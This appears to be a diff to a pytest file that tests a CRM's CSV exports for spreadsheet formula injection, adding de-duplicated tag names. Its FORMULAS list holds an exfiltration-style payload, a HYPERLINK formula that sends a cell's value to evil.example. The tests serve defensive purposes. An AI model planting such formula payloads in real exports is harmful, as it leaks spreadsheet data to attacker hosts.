@@ -21,6 +21,7 @@ from segments import services
 from segments.models import Segment
 from segments.sync import sync_segment
 from tags.models import ContactTag, DealTag, LeadTag, Tag
+from tags.names import name_key
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example?x="&A1,"Click")',
@@ -37,6 +38,19 @@ FORMULAS = [
 INERT = ["plain text", "'=already quoted", " =leading space", "a=1", "1-2"]
 
 
+def _tag_names() -> dict[str, str]:
+    """Each value's tag name: the value, but " (n)" after one that names an existing tag
+    (ignoring width and controls, tags.names), as migration tags/0007 renames such tags."""
+    names, taken = {}, set()
+    for n, value in enumerate(FORMULAS + INERT):
+        names[value] = value if name_key(value) not in taken else f"{value} ({n})"
+        taken.add(name_key(names[value]))
+    return names
+
+
+TAG_NAMES = _tag_names()
+
+
 def read_csv(response) -> list[dict[str, str]]:
     body = b"".join(response.streaming_content) if response.streaming else response.content
     return list(csv.DictReader(io.StringIO(body.decode("utf-8"))))
@@ -51,7 +65,9 @@ def hostile_records(admin_user):
     """A contact, lead and deal per value, each tagged with a tag named by the value."""
     records = {}
     for n, value in enumerate(FORMULAS + INERT):
-        tag = Tag.objects.create(name=value, slug=f"t{n}", color="#2563eb", description=value)
+        tag = Tag.objects.create(
+            name=TAG_NAMES[value], slug=f"t{n}", color="#2563eb", description=TAG_NAMES[value]
+        )
         contact = Contact.objects.create(
             first_name=value,
             last_name=value,
@@ -89,8 +105,13 @@ def _stored(cell: str) -> str:
     return cell[1:] if cell.startswith("'") and cell[1:] in FORMULAS else cell
 
 
-def _expected(value: str) -> str:
-    return neutralised(value) if value in FORMULAS else value
+def _stored_tag(cell: str) -> str:
+    return cell[1:] if cell.startswith("'") and cell[1:] in TAG_NAMES.values() else cell
+
+
+def _expected(value: str, column: str = "") -> str:
+    cell = TAG_NAMES[value] if column == "tags" else value
+    return neutralised(cell) if value in FORMULAS else cell
 
 
 @pytest.mark.parametrize("record_type", list(LIST_EXPORTS))
@@ -113,16 +134,17 @@ def test_list_exports_neutralise_formula_cells(
     assert set(by_value) == set(FORMULAS + INERT)
     for value, row in by_value.items():
         for column in [*columns, "tags"]:
-            assert row[column] == _expected(value), (record_type, column, value)
+            assert row[column] == _expected(value, column), (record_type, column, value)
 
 
 def test_tag_export_neutralises_names_and_descriptions(browser_client, hostile_records):
     rows = read_csv(browser_client.get("/admin/crm/tags/export.csv"))
 
     assert len(rows) == len(FORMULAS + INERT)
-    assert {_stored(row["name"]) for row in rows} == set(FORMULAS + INERT)
+    by_name = {name: value for value, name in TAG_NAMES.items()}
+    assert {_stored_tag(row["name"]) for row in rows} == set(by_name)
     for row in rows:
-        assert row["name"] == _expected(_stored(row["name"]))
+        assert row["name"] == _expected(by_name[_stored_tag(row["name"])], "tags")
         assert row["description"] == row["name"]
 
 
